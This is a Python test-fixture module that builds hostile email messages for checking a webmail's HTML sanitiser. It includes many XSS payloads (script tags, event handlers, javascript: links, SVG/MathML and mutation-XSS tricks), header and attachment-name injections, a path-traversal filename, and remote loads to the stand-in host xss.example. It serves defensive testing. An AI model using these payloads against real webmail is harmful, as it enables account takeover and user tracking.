# ruff: noqa: E501  (payloads are kept on one line each, as they are sent)
"""Hostile messages for the webmail: every class of markup that recurred in webmail CVEs
(Roundcube, SnappyMail/RainLoop, Horde, Zimbra, SquirrelMail). Each payload, if it ever
ran, calls ``alert`` or fetches from ``xss.example`` — the browser test listens for
both. None may run, and nothing may be fetched from a remote host."""

from __future__ import annotations

import base64
from dataclasses import dataclass

HIT = "alert(1)"
REMOTE = "https://xss.example/hit"


@dataclass(frozen=True)
class Hostile:
    name: str
    raw: bytes
    kind: str  # "html", "text", "header", "attachment"


# -- HTML bodies -------------------------------------------------------------------------

HTML_PAYLOADS: dict[str, str] = {
    # plain script and handlers
    "script": f"<script>{HIT}</script>",
    "script-src": f'<script src="{REMOTE}.js"></script>',
    "img-onerror": f"<img src=x onerror={HIT}>",
    "body-onload": f"<body onload={HIT}>x</body>",
    "svg-onload": f"<svg onload={HIT}>",
    "details-ontoggle": f"<details open ontoggle={HIT}>x</details>",
    "input-autofocus": f"<input autofocus onfocus={HIT}>",
    "marquee-onstart": f"<marquee onstart={HIT}>x</marquee>",
    "video-source-onerror": f"<video><source onerror={HIT}></video>",
    "iframe-srcdoc": f'<iframe srcdoc="<script>{HIT}</script>"></iframe>',
    "iframe-js": f'<iframe src="javascript:{HIT}"></iframe>',
    "object-data": f'<object data="javascript:{HIT}"></object>',
    "embed-src": f'<embed src="data:text/html,<script>{HIT}</script>">',
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url=javascript:{HIT}">',
    "base-href": f'<base href="{REMOTE}/"><img src="x.png">',
    "form-action": f'<form action="{REMOTE}"><button>go</button></form>',
    "button-formaction": f'<button formaction="javascript:{HIT}">x</button>',
    # link schemes
    "a-javascript": f'<a href="javascript:{HIT}">x</a>',
    "a-javascript-entities": '<a href="&#106;avascript&#58;alert(1)">x</a>',
    "a-javascript-tab": '<a href="java\tscript:alert(1)">x</a>',
    "a-vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "a-data-html": f'<a href="data:text/html,<script>{HIT}</script>">x</a>',
    "area-href": f'<map name=m><area href="javascript:{HIT}" shape=default></map><img usemap=#m src=x>',
    "img-src-javascript": f'<img src="javascript:{HIT}">',
    "img-dynsrc": f'<img dynsrc="javascript:{HIT}">',
    # SVG and MathML
    "svg-animate-href": f"<svg><a><animate attributeName=href values=javascript:{HIT} /><text y=20>x</text></a></svg>",
    "svg-set-href": f'<svg><a xlink:href="#"><set attributeName="xlink:href" to="javascript:{HIT}"/><text y=20>x</text></a></svg>',
    "svg-script": f"<svg><script>{HIT}</script></svg>",
    "svg-style": f"<svg><style>@import '{REMOTE}.css';</style></svg>",
    "svg-foreignobject": f"<svg><foreignObject><iframe srcdoc='<script>{HIT}</script>'></iframe></foreignObject></svg>",
    "svg-use-data": f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='{HIT}'/></svg>#x\"/></svg>",
    "math-href": f'<math><maction actiontype="statusline" xlink:href="javascript:{HIT}">x</maction></math>',
    "math-mglyph-style": f"<math><mtext><table><mglyph><style><img src=x onerror={HIT}>",
    # mutation after sanitising
    "mxss-noscript": f'<noscript><p title="</noscript><img src=x onerror={HIT}>">',
    "mxss-svg-p-style": f'<svg></p><style><a id="</style><img src=1 onerror={HIT}>">',
    "mxss-form-math": f'<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror={HIT} src=1>">',
    "mxss-template": f"<template><style></template><img src=x onerror={HIT}>",
    "mxss-comment": f"<!--><img src=x onerror={HIT}>-->",
    "mxss-cdata": f"<svg><![CDATA[><img src=x onerror={HIT}>]]></svg>",
    "mxss-title": f"<title><img src=x onerror={HIT}></title>",
    "mxss-xmp": f"<xmp><img src=x onerror={HIT}></xmp>",
    "mxss-plaintext": f"<plaintext><img src=x onerror={HIT}>",
    "mxss-select": f"<select><style></select><img src=x onerror={HIT}></style>",
    "mxss-backtick": f"<img src=`x` onerror={HIT}>",
    "mxss-namespace": f'<svg><desc><svg><p><img src=x onerror="{HIT}">',
    # CSS
    "css-import": f"<style>@import url({REMOTE}.css);</style>x",
    "css-var-url": f'<div style="--u:url({REMOTE}/var); background:var(--u)">x</div>',
    "css-fixed-overlay": '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:red;z-index:99999">overlay</div>',
    "css-background-url": f'<div style="background:url({REMOTE}/bg)">x</div>',
    "css-expression": f'<div style="width:expression({HIT})">x</div>',
    "css-behavior": f'<div style="behavior:url({REMOTE}.htc)">x</div>',
    "css-moz-binding": f'<div style="-moz-binding:url({REMOTE}.xml#x)">x</div>',
    "css-link-stylesheet": f'<link rel=stylesheet href="{REMOTE}.css">',
    "css-font-face": f"<style>@font-face{{font-family:x;src:url({REMOTE}.woff)}}</style>",
    "background-attr": f'<table background="{REMOTE}/table"><tr><td background="{REMOTE}/td">x</td></tr></table>',
    "body-background": f'<body background="{REMOTE}/body">x</body>',
    "tracking-pixel": f'<img src="{REMOTE}/pixel.gif" width=1 height=1>',
    "tracking-srcset": f'<img srcset="{REMOTE}/srcset.png 1x">',
    "tracking-picture": f'<picture><source srcset="{REMOTE}/pic.png"><img src=x></picture>',
    "tracking-video-poster": f'<video poster="{REMOTE}/poster.png"></video>',
    "tracking-audio": f'<audio src="{REMOTE}/a.mp3" autoplay></audio>',
    "prefetch": f'<link rel=prefetch href="{REMOTE}/prefetch">',
    "dns-prefetch": '<link rel=dns-prefetch href="//xss.example">',
    "svg-image-remote": f'<svg><image href="{REMOTE}/svgimage.png"/></svg>',
    # misc
    "xml-stylesheet": f'<?xml-stylesheet href="{REMOTE}.xsl"?><p>x</p>',
    "unclosed-attr": f'<img src="x" alt="<script>{HIT}</script>',
    "null-byte": f"<scr\x00ipt>{HIT}</scr\x00ipt>",
    "utf7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
}


def _html_message(n: int, name: str, payload: str, charset: str = "utf-8") -> bytes:
    body = f"<html><body><p>case {name}</p>{payload}<p>end</p></body></html>"
    return (
        f"From: attacker{n}@example.net\r\nTo: alice@example.test\r\nSubject: html {name}\r\n"
        f"Message-ID: <x{n}@example.net>\r\nMIME-Version: 1.0\r\n"
        f"Content-Type: text/html; charset={charset}\r\n\r\n{body}\r\n"
    ).encode("utf-8", "surrogateescape")


# -- plain-text link conversion ---------------------------------------------------------

TEXT_PAYLOADS: dict[str, str] = {
    "text-javascript-url": f"javascript:{HIT}",
    "text-url-quote-break": f'https://a.example/"><script>{HIT}</script>',
    "text-url-tag": f"https://a.example/<img src=x onerror={HIT}>",
    "text-url-attr": f'https://a.example/" onmouseover="{HIT}',
    "text-www-javascript": f"www.javascript:{HIT}",
    "text-data-url": f"data:text/html,<script>{HIT}</script>",
    "text-html-in-text": f"<script>{HIT}</script><img src=x onerror={HIT}>",
    "text-entity": "&lt;script&gt;alert(1)&lt;/script&gt;",
}


def _text_message(n: int, name: str, payload: str) -> bytes:
    return (
        f"From: attacker{n}@example.net\r\nTo: alice@example.test\r\nSubject: text {name}\r\n"
        f"Message-ID: <t{n}@example.net>\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
        f"case {name}\r\n{payload}\r\nend\r\n"
    ).encode()


# -- headers echoed into the page --------------------------------------------------------

HEADER_PAYLOADS: dict[str, str] = {
    "subject-script": f"Subject: <script>{HIT}</script>",
    "subject-img": f"Subject: <img src=x onerror={HIT}>",
    "subject-encoded": "Subject: =?utf-8?b?"
    + base64.b64encode(f"<img src=x onerror={HIT}>".encode()).decode()
    + "?=",
    "from-name": f'Subject: from name\r\nFrom: "<img src=x onerror={HIT}>" <a@example.net>',
    "from-encoded": "Subject: from encoded\r\nFrom: =?utf-8?q?=3Cscript=3Ealert(1)=3C/script=3E?= <a@example.net>",
    "to-attr-break": f'Subject: to\r\nTo: "\\" onmouseover={HIT} x=\\"" <alice@example.test>',
    "subject-attr-break": f'Subject: " autofocus onfocus="{HIT}',
    "date-garbage": f"Subject: date\r\nDate: <script>{HIT}</script>",
}


def _header_message(n: int, name: str, headers: str) -> bytes:
    if "\r\nFrom:" not in headers:
        headers += f"\r\nFrom: attacker{n}@example.net"
    if "\r\nTo:" not in headers:
        headers += "\r\nTo: alice@example.test"
    return f"{headers}\r\nMessage-ID: <h{n}@example.net>\r\n\r\ncase {name}\r\n".encode()


# -- attachments -------------------------------------------------------------------------

ATTACHMENTS: dict[str, tuple[str, str, str]] = {
    # name: (Content-Type, Content-Disposition, content)
    "att-html": ("text/html", 'attachment; filename="a.html"', f"<script>{HIT}</script>"),
    "att-html-inline": ("text/html", "inline", f"<script>{HIT}</script>"),
    "att-svg": (
        "image/svg+xml",
        'inline; filename="a.svg"',
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{HIT}"/>',
    ),
    "att-xml": (
        "text/xml",
        'attachment; filename="a.xml"',
        f'<x:script xmlns:x="http://www.w3.org/1999/xhtml">{HIT}</x:script>',
    ),
    "att-sniff": (
        "application/octet-stream",
        'attachment; filename="a.txt"',
        f"<html><script>{HIT}</script>",
    ),
    "att-type-bad": ('text/html; x="', 'attachment; filename="b.html"', f"<script>{HIT}</script>"),
    "att-name-script": (
        "application/pdf",
        f'attachment; filename="<img src=x onerror={HIT}>.pdf"',
        "%PDF-1.4",
    ),
    "att-name-encoded": (
        "application/pdf",
        "attachment; filename*=UTF-8''%3Cscript%3Ealert(1)%3C%2Fscript%3E.pdf",
        "%PDF-1.4",
    ),
    "att-name-path": ("text/plain", 'attachment; filename="../../etc/passwd"', "x"),
    "att-ics": (
        "text/calendar",
        'attachment; filename="invite.ics"',
        f"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:<script>{HIT}</script>\r\nEND:VEVENT\r\nEND:VCALENDAR",
    ),
}


def _attachment_message(n: int, name: str, ctype: str, disposition: str, content: str) -> bytes:
    return (
        f"From: attacker{n}@example.net\r\nTo: alice@example.test\r\nSubject: attachment {name}\r\n"
        f"Message-ID: <a{n}@example.net>\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="b"\r\n\r\n'
        f"--b\r\nContent-Type: text/plain\r\n\r\ncase {name}\r\n"
        f"--b\r\nContent-Type: {ctype}\r\nContent-Disposition: {disposition}\r\n\r\n{content}\r\n"
        "--b--\r\n"
    ).encode()


def corpus() -> list[Hostile]:
    out: list[Hostile] = []
    n = 0
    for name, payload in HTML_PAYLOADS.items():
        n += 1
        out.append(Hostile(name, _html_message(n, name, payload), "html"))
    n += 1
    out.append(
        Hostile(
            "html-utf7-charset",
            _html_message(n, "utf7-charset", HTML_PAYLOADS["utf7"], "utf-7"),
            "html",
        )
    )
    for name, payload in TEXT_PAYLOADS.items():
        n += 1
        out.append(Hostile(name, _text_message(n, name, payload), "text"))
    for name, headers in HEADER_PAYLOADS.items():
        n += 1
        out.append(Hostile(name, _header_message(n, name, headers), "header"))
    for name, (ctype, disposition, content) in ATTACHMENTS.items():
        n += 1
        out.append(
            Hostile(name, _attachment_message(n, name, ctype, disposition, content), "attachment")
        )
    return out
